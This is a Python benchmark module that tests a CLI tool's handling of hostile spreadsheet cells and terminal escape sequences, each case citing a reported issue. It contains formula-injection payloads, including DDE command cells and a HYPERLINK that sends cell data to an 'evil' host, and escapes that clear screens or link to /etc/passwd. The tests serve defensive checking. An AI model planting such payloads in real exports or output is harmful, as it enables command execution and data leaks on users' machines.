"""Faults of what is shown, as users of other programs reported them: cells that run, names that are obeyed.

For `benchmarks.hostile_inputs`. Each case says where its fault was reported: owner/repository and number.
"""

import functools
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from typer.testing import CliRunner

from benchmarks.hostile_cases import Case, dejavu
from benchmarks.hostile_files import _corpus
from benchmarks.hostile_public_data import require
from dejavu import cli
from dejavu.text import FORMULA_STARTS

CELLS = {
    "hhurz/tableExport.jquery.plugin 230": "=cmd|' /C calc'!A0",
    "dbtrail/dbtrail 965": '=HYPERLINK("http://evil/?"&A1)',
    "PostHog/posthog 54162": "@SUM(1)",
    "DestinyItemManager/DIM 11824": "\t=1+1",
    "Asymmetric-al/core 518": "\u00a0=HYPERLINK(1)",
    "hiero-hackers/analytics 308": "＝1+1",
    "brightdata/sdk-python 52": "-2+3+cmd|' /C calc'!A0",
}
ESCAPES = {
    "martinus/oans 202": "a\rdone",
    "sharkdp/bat 3691": "\x1b[2Jpwned.txt",
    "schollz/croc 595": "\x1b[1A\rharmless",
    "EONRaider/RootWire 53": "\x1b[31m\u202e",
    "jamie8johnson/cqs 1341": "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\",
    "Test-More/Test2-Harness 286": "file\x1b[H\x1b[0j.t",
}


def low() -> Iterator[Case]:
    """Cells that a spreadsheet runs, names that a terminal obeys."""
    for name, cell in CELLS.items():
        yield f"{name}: a cell", functools.partial(_cell, cell)
    for name, text in ESCAPES.items():
        yield f"{name}: a label", functools.partial(_show, text)
        yield f"{name}: a file's name", functools.partial(_list, text)
        yield f"{name}: a place", dejavu("check", "--params", f"{text.replace('/', '')}.yaml")


def _cell(cell: str) -> None:
    _label(cell)
    done = CliRunner().invoke(cli.app, ["sql", "SELECT label FROM labels", "--format", "csv"])
    found = done.stdout.splitlines()[1].strip('"')
    require(found.strip().startswith(FORMULA_STARTS), False)


def _show(text: str) -> None:
    _label(text)
    cli.app(["sql", "FROM labels", "--format", "table"])


def _label(text: str) -> None:
    Path("data/image").mkdir(parents=True)
    pq.write_table(pa.table({"label": [text]}), "data/image/labels.parquet")


def _list(text: str) -> None:
    place = Path("photos/a") / f"{text.replace('/', '')}.jpg"
    place.parent.mkdir(parents=True)
    place.write_bytes(b"no image")
    _corpus({"adapter": "image_folder", "root": "photos", "use": None, "boxes": None})


FAULTS: dict[str, Callable[[], Iterator[Case]]] = {"low": low}
